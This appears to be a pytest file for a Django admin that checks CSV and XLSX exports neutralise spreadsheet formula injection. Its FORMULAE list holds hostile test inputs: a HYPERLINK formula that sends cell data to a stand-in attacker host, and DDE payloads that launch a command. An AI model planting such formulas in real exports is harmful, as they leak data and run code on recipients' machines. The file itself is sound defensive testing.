"""Exported spreadsheets never evaluate what someone typed: `csv_cell` for every CSV,
text cells for import-export's XLSX (the department lists' 导出)."""

import csv
import io

import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from departments.resources import ServiceWindowResource
from kernel.spreadsheets import SafeCSV, SafeXLSX, csv_cell
from tests.factories import ServiceWindowFactory

FORMULAE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]


@pytest.mark.parametrize("value", FORMULAE)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["社保卡补办", "13812345678", "0531-86001234", "-12.5", "+3", "", 7, None]
)
def test_ordinary_text_numbers_and_non_text_are_left_alone(value):
    assert csv_cell(value) == value


def _export(client, file_format: str):
    fields = [
        f"{ServiceWindowResource.__name__.lower()}_{name}"
        for name in ServiceWindowResource.fields
    ]
    response = client.post(
        reverse("admin:departments_servicewindow_export"),
        {"format": file_format, "resource": "0", **dict.fromkeys(fields, "on")},
    )
    assert response.status_code == 200
    return response.content


@pytest.mark.django_db
def test_a_department_export_as_csv_neutralises_a_formula(admin_client, department_a):
    ServiceWindowFactory(department=department_a, name=FORMULAE[0], location="=1+1")

    rows = list(
        csv.DictReader(io.StringIO(_export(admin_client, "1").decode("utf-8-sig")))
    )

    assert (rows[0]["窗口名称"], rows[0]["位置"]) == ("'" + FORMULAE[0], "'=1+1")


@pytest.mark.django_db
def test_a_department_export_as_xlsx_writes_a_formula_as_text(
    admin_client, department_a
):
    ServiceWindowFactory(department=department_a, name=FORMULAE[0])

    sheet = load_workbook(io.BytesIO(_export(admin_client, "0"))).active
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("窗口名称") + 1)

    assert (name.data_type, name.value) == ("s", FORMULAE[0])


def test_every_admin_export_uses_the_safe_formats():
    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]
    assert exporting
    for model_admin in exporting:
        for format_class in model_admin.get_export_formats():
            assert issubclass(format_class, SafeCSV | SafeXLSX), model_admin
